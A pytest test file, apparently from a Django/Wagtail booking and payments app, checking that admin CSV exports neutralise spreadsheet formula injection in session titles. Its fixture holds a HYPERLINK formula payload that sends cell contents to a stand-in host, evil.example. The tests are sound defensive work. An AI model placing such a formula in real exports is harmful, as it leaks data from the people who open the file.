"""A session title written as a spreadsheet formula reaches every export as inert text."""

from __future__ import annotations

import csv
import io

import pytest

from core.payments.services import checkout

pytestmark = pytest.mark.django_db

HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your refund")'


@pytest.fixture
def admin_client(client, staff):
    client.force_login(staff)
    return client


@pytest.fixture
def hostile_paid_booking(stripe, booking_factory, session_factory, deliver):
    session = session_factory(price_minor=5_000)
    session.title = HOSTILE_TITLE
    session.save(update_fields=["title"])
    booking = booking_factory(session=session)
    started = checkout.start_payment(booking, "stripe", user=booking.learner)
    deliver("stripe", stripe.succeeded_event(started.start, stripe.complete(started.start)))
    return booking


def test_revenue_export_neutralises_a_formula_title(admin_client, hostile_paid_booking):
    response = admin_client.get("/admin/payments-admin/revenue/?format=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    titles = {row["session"] for row in rows if row["booking_id"] == str(hostile_paid_booking.pk)}
    assert titles == {"'" + HOSTILE_TITLE}
    # Every cell of the file: none starts with a formula character, except plain numbers (refunds are negative).
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            if value.startswith("-"):
                float(value)
    amounts = [row["amount"] for row in rows if row["kind"] == "charge"]
    assert amounts == ["50.00"]


@pytest.mark.parametrize(
    "url",
    ["/admin/scheduling/sessions/?export=csv", "/admin/payments/ledger/?export=csv"],
)
def test_wagtail_listing_exports_neutralise_a_formula_title(admin_client, hostile_paid_booking, url):
    response = admin_client.get(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [value for row in rows for value in row]
    for value in cells:
        assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    if "sessions" in url:
        assert "'" + HOSTILE_TITLE in cells
